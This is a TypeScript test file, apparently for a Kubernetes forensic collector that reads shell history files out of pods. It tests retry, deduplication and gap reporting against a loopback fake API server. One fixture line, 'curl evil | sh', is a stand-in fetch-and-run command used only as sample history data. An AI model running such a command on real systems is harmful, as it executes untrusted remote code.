/**
 * A history exec cut mid-stream (the WebSocket closes without a status) is retried once, as a
 * second collector action, and the retry hands over only what the first exec did not: against a
 * loopback API server that lists one pod and answers each exec from a per-exec script.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { KubeConfig } from '@kubernetes/client-node';
import { WebSocketServer, type WebSocket } from 'ws';
import { createCommandHistorySource } from '../../shared/sources/commandhistory/source.js';
import { HISTORY_FILE_MARKER, historyFileTrailer } from '../../shared/sources/commandhistory/historyScript.js';
import { collect, context } from './helpers.js';

const frame = (channel: number, payload: string | Buffer): Buffer => Buffer.concat([Buffer.from([channel]), Buffer.isBuffer(payload) ? payload : Buffer.from(payload)]);
const SUCCESS = JSON.stringify({ metadata: {}, status: 'Success' });
const POD = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'web', namespace: 'shop', uid: 'u-1' },
  spec: { containers: [{ name: 'app', image: 'app:1' }] },
  status: { phase: 'Running', containerStatuses: [{ name: 'app', restartCount: 0, state: { running: { startedAt: '2026-03-01T08:00:00Z' } } }] },
};

/** What an exec answers: the protocol output, cut after `cutAfter` bytes (socket closed, no status), or refused. */
type ExecAnswer = { files: Record<string, string>; cutAfter?: number } | { refuse: number };

let server: Server;
let wss: WebSocketServer;
let kc: KubeConfig;
let answers: ExecAnswer[] = [];
let execs = 0;

function output(files: Record<string, string>): Buffer {
  return Buffer.concat(
    Object.entries(files).map(([path, content]) =>
      Buffer.concat([
        Buffer.from(`${HISTORY_FILE_MARKER}${Buffer.byteLength(content)} ${path}\n`),
        Buffer.from(content),
        Buffer.from(historyFileTrailer(Buffer.byteLength(content))),
      ]),
    ),
  );
}

beforeAll(async () => {
  server = createServer((req, res) => {
    if (req.url?.startsWith('/api/v1/pods')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ kind: 'PodList', apiVersion: 'v1', metadata: { resourceVersion: '1' }, items: [POD] }));
      return;
    }
    res.writeHead(404).end();
  });
  wss = new WebSocketServer({ noServer: true, handleProtocols: (offered) => (offered.has('v5.channel.k8s.io') ? 'v5.channel.k8s.io' : false) });
  server.on('upgrade', (req, socket, head) => {
    const answer = answers[execs++] ?? { files: {} };
    if ('refuse' in answer) {
      socket.end(`HTTP/1.1 ${answer.refuse} Not Found\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}`);
      return;
    }
    wss.handleUpgrade(req, socket, head, (ws: WebSocket) => {
      const out = output(answer.files);
      if (answer.cutAfter !== undefined) {
        ws.send(frame(1, out.subarray(0, answer.cutAfter)), () => setTimeout(() => ws.terminate(), 10));
        return;
      }
      ws.send(frame(1, out));
      ws.send(frame(3, SUCCESS));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  kc = new KubeConfig();
  kc.loadFromOptions({
    clusters: [{ name: 'c', server: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, skipTLSVerify: true }],
    users: [{ name: 'u', token: 't' }],
    contexts: [{ name: 'x', cluster: 'c', user: 'u' }],
    currentContext: 'x',
  });
});
afterAll(async () => {
  for (const c of wss.clients) c.terminate();
  await new Promise<void>((resolve) => wss.close(() => resolve()));
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});
beforeEach(() => {
  execs = 0;
});

const ASH = Array.from({ length: 40 }, (_, i) => `command number ${i}`).join('\n') + '\n';
const BASH = '#1772358000\nls -la /root\n#1772358060\nid\n';
const FILES = { '/root/.bash_history': BASH, '/root/.ash_history': ASH };
const source = createCommandHistorySource();

test('cut in the middle of the second file: retried once; every command exactly once; two actions; no gap', async () => {
  const cutAfter = output(FILES).indexOf('command number 17') + 5;
  answers = [{ files: FILES, cutAfter }, { files: FILES }];
  const out = await collect(source, context(kc));
  const commands = out.rows.map((r) => `${String(r['history_file'])}:${String(r['line_number'])}:${String(r['command'])}`);
  expect(commands).toHaveLength(42);
  expect(new Set(commands).size).toBe(42);
  expect(out.rows.map((r) => r['command'])).toEqual(expect.arrayContaining(['ls -la /root', 'id', 'command number 0', 'command number 17', 'command number 39']));
  expect(out.gaps).toEqual([]);
  expect(out.actions).toEqual([
    expect.objectContaining({ outcome: 'failed', detail: expect.stringMatching(/^the connection closed without a status after \d+ bytes \(2 file\(s\) begun\); retried once$/) }),
    expect.objectContaining({ outcome: 'ok', attempt: 2, detail: '2 history file(s) read' }),
  ]);
  expect(out.actions[0]!.attempt).toBeUndefined();
  // Each file recorded whole once (the first, whole in the first exec, is not recorded twice).
  const files = out.raws.map((r) => r.object as { path: string; content: string });
  expect(files.map((f) => [f.path, f.content])).toEqual([
    ['/root/.bash_history', BASH],
    ['/root/.ash_history', ASH],
  ]);
  expect(out.coverage).toEqual([expect.objectContaining({ commandhistory: expect.objectContaining({ read: 1, withHistory: 1, retried: 1, failed: 0 }) })]);
});

test('the file grew between the two execs: the new commands are kept, the repeated ones dropped', async () => {
  answers = [{ files: FILES, cutAfter: 200 }, { files: { ...FILES, '/root/.ash_history': `${ASH}curl evil | sh\n` } }];
  const out = await collect(source, context(kc));
  expect(out.rows).toHaveLength(43);
  expect(out.rows.at(-1)).toMatchObject({ command: 'curl evil | sh', line_number: 41 });
});

test('cut twice: an exec-failed gap naming both, the rows of both kept without repeats', async () => {
  answers = [
    { files: FILES, cutAfter: 150 },
    { files: FILES, cutAfter: 300 },
  ];
  const out = await collect(source, context(kc));
  const keys = out.rows.map((r) => `${String(r['history_file'])}:${String(r['line_number'])}`);
  expect(new Set(keys).size).toBe(keys.length);
  expect(out.gaps).toEqual([
    expect.objectContaining({ reason: 'exec-failed', container: 'app', detail: expect.stringContaining('(on the retry: the first exec was cut mid-stream)') }),
  ]);
  expect(out.actions.map((a) => [a.outcome, a.attempt])).toEqual([
    ['failed', undefined],
    ['failed', 2],
  ]);
  expect(execs).toBe(2);
});

test('the retry is refused (the pod is gone): the part the first exec read of the cut file is kept', async () => {
  const cutAfter = output(FILES).indexOf('command number 3') + 3;
  answers = [{ files: FILES, cutAfter }, { refuse: 404 }];
  const out = await collect(source, context(kc));
  const ash = out.rows.filter((r) => r['history_file'] === '/root/.ash_history').map((r) => r['command']);
  expect(ash).toEqual(['command number 0', 'command number 1', 'command number 2', 'com']);
  expect(out.gaps).toEqual([expect.objectContaining({ reason: 'pod-vanished' })]);
  expect(out.raws.map((r) => (r.object as { path: string; receivedBytes: number }).path)).toEqual(['/root/.bash_history', '/root/.ash_history']);
});
